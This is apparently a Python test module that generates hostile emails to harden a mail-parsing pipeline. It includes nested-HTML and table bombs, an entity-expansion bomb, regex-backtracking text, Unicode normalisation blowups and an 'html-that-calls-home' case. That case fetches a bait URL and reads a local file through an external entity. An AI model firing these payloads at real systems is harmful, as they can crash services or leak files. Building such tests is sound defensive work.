"""Letters that are long to read: HTML that explodes, text that makes patterns backtrack."""

from pipeline.tests.hostile.cases import HEAD, MIB, Bait, letter, mail

HTML = "text/html; charset=utf-8"


def page(body: bytes) -> bytes:
    return letter(b"<html><body>" + body, HTML)


@mail("half-a-million-nested-divs")
def nested_divs(bait: Bait) -> bytes:
    return page(b"<div>" * bait.of(500_000, 20_000) + b"x")


@mail("half-a-million-nested-spans")
def nested_spans(bait: Bait) -> bytes:
    return page(b"<b><i>" * bait.of(250_000, 10_000) + b"x")


@mail("nested-lists")
def nested_lists(bait: Bait) -> bytes:
    """Each level is written further to the right."""
    return page(b"<ul><li>x" * bait.of(50_000, 600))


@mail("nested-quotes")
def nested_quotes(bait: Bait) -> bytes:
    return page(b"<blockquote>x" * bait.of(30_000, 3000))


@mail("hundred-thousand-tables")
def many_tables(bait: Bait) -> bytes:
    return page(b"<table><tr><td>1</table>" * bait.of(100_000, 2000))


@mail("nested-tables")
def nested_tables(bait: Bait) -> bytes:
    return page(b"<table><tr><td>1" * bait.of(100_000, 2000))


@mail("table-with-one-wide-cell")
def wide_cell(bait: Bait) -> bytes:
    """All rows are padded to the widest: 250 KB x 20,000 rows are 5 GB."""
    wide = b"<tr><td>" + b"w" * bait.of(250_000, 5000)
    return page(b"<table>" + wide + b"<tr><td>1" * bait.of(20_000, 500) + b"</table>")


@mail("table-with-long-columns")
def tall_cells(bait: Bait) -> bytes:
    """A row is as high as its highest cell, in each of its columns."""
    tall = b"<td>" + b"1<br>" * bait.of(40_000, 300)
    return page(b"<table><tr>" + tall + b"<td>1" * bait.of(50_000, 200) + b"</table>")


@mail("table-with-a-colspan-of-a-billion")
def wide_spans(bait: Bait) -> bytes:
    cell = b'<td colspan="1000000000" rowspan="1000000000">1'
    return page(b"<table><tr>" + cell * bait.of(1000, 50) + b"</table>")


@mail("list-that-starts-far")
def far_list(_: Bait) -> bytes:
    start = b"9" * 5000
    return page(b'<ol start="' + start + b'"><li value="' + start + b'">x<li>y</ol>')


@mail("attributes-by-the-megabyte")
def huge_attributes(bait: Bait) -> bytes:
    many = b" ".join(b'a%d="x"' % n for n in range(bait.of(40_000, 2000)))
    long = b'title="' + b"t" * bait.of(400_000, 20_000) + b'"'
    return page(b"<p " + many + b">x</p><p " + long + b">y</p>")


@mail("margins-of-a-billion")
def huge_margins(_: Bait) -> bytes:
    style = b'style="margin:999999999em;padding-left:1e9em;text-indent:99999999em;height:1e99px"'
    return page((b"<p " + style + b">x</p>") * 200)


@mail("styles-that-backtrack")
def slow_styles(bait: Bait) -> bytes:
    style = b"display" + b" " * 900 + b"font-size:0" + b"0" * 80 + b"." + b"0" * 80
    return page((b'<p style="' + style + b'">x</p>') * bait.of(450, 50))


@mail("only-opening-brackets")
def brackets(bait: Bait) -> bytes:
    return page(b"<" * bait.of(MIB, 50_000))


@mail("comments-that-never-end")
def open_comments(bait: Bait) -> bytes:
    return page(b"<!--" * bait.of(250_000, 10_000))


@mail("marked-sections-that-never-end")
def open_sections(bait: Bait) -> bytes:
    return page(b"<![CDATA[" * bait.of(60_000, 5000) + b"<!DOCTYPE " * 5000 + b"<?x " * 5000)


@mail("entity-flood")
def entities(bait: Bait) -> bytes:
    return page(b"&amp;&#x0;&#1114112;&bogus&#" * bait.of(20_000, 2000))


@mail("entity-bomb-in-html")
def html_entity_bomb(_: Bait) -> bytes:
    lines = b"".join(b'<!ENTITY e%d "%b">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 12))
    doctype = b'<!DOCTYPE html [<!ENTITY e0 "lol">' + lines + b"]>"
    return letter(doctype + b"<html><body>&e11;", HTML)


@mail("html-that-calls-home")
def calling_html(bait: Bait) -> bytes:
    url = bait.url.encode()
    tags = b"".join(
        each % url
        for each in (
            b'<img src="%b1">',
            b'<link rel=stylesheet href="%b2">',
            b'<iframe src="%b3"></iframe>',
            b'<object data="%b4"></object>',
            b'<meta http-equiv=refresh content="0;%b5">',
            b'<base href="%b6">',
            b'<script src="%b7"></script>',
        )
    )
    external = b'<!DOCTYPE html SYSTEM "%bdtd" [<!ENTITY x SYSTEM "file://%b">]>'
    return letter(external % (url, bait.secret.encode()) + b"<html>" + tags + b"&x;", HTML)


@mail("page-of-spaces")
def spaces(bait: Bait) -> bytes:
    body = b"<pre>" + b" \t" * bait.of(200_000, 3000) + b"x</pre>" + b"&nbsp;" * 5000
    return page(body)


@mail("arrows-and-spaces")
def arrows(bait: Bait) -> bytes:
    return letter((b"> " * 5000 + b"x\n" + b" " * 5000 + b">\n") * bait.of(100, 10))


@mail("on-someday-somebody-wrote")
def attributions(bait: Bait) -> bytes:
    line = b"On 1 Jan 2026 at 10:00 kim <kim@trade.example> wrote wrote wrote" + b" 1:11" * 60
    return letter((line + b"\n") * bait.of(20_000, 60))


@mail("attributions-in-korean")
def korean_attributions(bait: Bait) -> bytes:
    line = "2026년 1월 1일 10:10 님이 님이 작성 " + "1@ 님이 " * 60 + "작성 :x"
    return letter((line + "\n").encode() * bait.of(10_000, 30))


@mail("attributions-in-japanese-and-thai")
def eastern_attributions(bait: Bait) -> bytes:
    japanese = "2026年1月1日 10:10 " + "が は さん 様 2026年 " * 20 + "メール"
    thai = "เมื่อ 1 ม.ค. 10:10 " + "เขียน " * 60
    return letter(f"{japanese}\n{thai}\n".encode() * bait.of(5000, 20))


@mail("attributions-folded-over-lines")
def folded_attributions(bait: Bait) -> bytes:
    return letter(b"On 1 Jan 2026, 10:10\n<a@b.example> x\nwrote it\n" * bait.of(60_000, 300))


@mail("header-blocks-by-the-thousand")
def header_blocks(bait: Bait) -> bytes:
    return letter(b"From: a@b.example\nTo: x\nx\n\n" * bait.of(60_000, 2000))


@mail("dashes-without-an-end")
def dashes(bait: Bait) -> bytes:
    line = b"-_=*~ " * 60 + b"original" + b" " * 60 + b"\n"
    return letter(line * bait.of(20_000, 400) + b"-- \n" * 1000 + b"-" * bait.of(MIB, 50_000))


@mail("line-of-1mb-that-was-written")
def long_attribution(bait: Bait) -> bytes:
    return letter(b"On " + b"1 at <a@b.example> " * bait.of(60_000, 3000) + b"wrote:")


@mail("numbers-and-dates-without-an-end")
def endless_facts(bait: Bait) -> bytes:
    """For the rules that read the facts: each piece could be one."""
    pieces = ("12/11/10 ", "2026-11-", "11월 3일~", "next next ", "1,111,111 kg ", "20ft x 40ft ")
    return letter("".join(pieces).encode() * bait.of(8000, 300))


@mail("invisible-characters")
def invisible(bait: Bait) -> bytes:
    return letter(("\u200b\u202e\u2066\ufeff\u00ad" * bait.of(400_000, 20_000) + "20ft").encode())


@mail("marks-upon-one-letter")
def marks(bait: Bait) -> bytes:
    """Composed forms of a long run of marks take quadratic time."""
    return letter(("a" + "\u0315\u0300\u05ae\u0301\u0062" * bait.of(200_000, 20_000)).encode())


@mail("jamo-run")
def jamo(bait: Bait) -> bytes:
    return letter(("\u1100\u1161\u11a8" * bait.of(300_000, 20_000)).encode())


@mail("jamo-with-alternating-marks")
def jamo_marks(bait: Bait) -> bytes:
    subject = ("\u1100\u1161\u0301\u0327" * 3000).encode()
    return b"Subject: " + subject + b"\r\n" + HEAD + b"\r\n" + subject * bait.of(100, 5)


@mail("wide-charsets-cut-in-two", "no-sender")
def cut_charsets(bait: Bait) -> bytes:
    body = "견적".encode("utf-16-le")[:-1] + b"\xd8" * bait.of(MIB, 5000)
    return b"Content-Type: text/plain; charset=utf-16\r\n\r\n\xff\xfe" + body


@mail("escape-sequences-of-iso-2022")
def escapes(bait: Bait) -> bytes:
    kind = "text/plain; charset=iso-2022-jp"
    return letter(b"\x1b$B!!\x1b(B\x1b(I1\x1b(J" * bait.of(200_000, 10_000), kind)
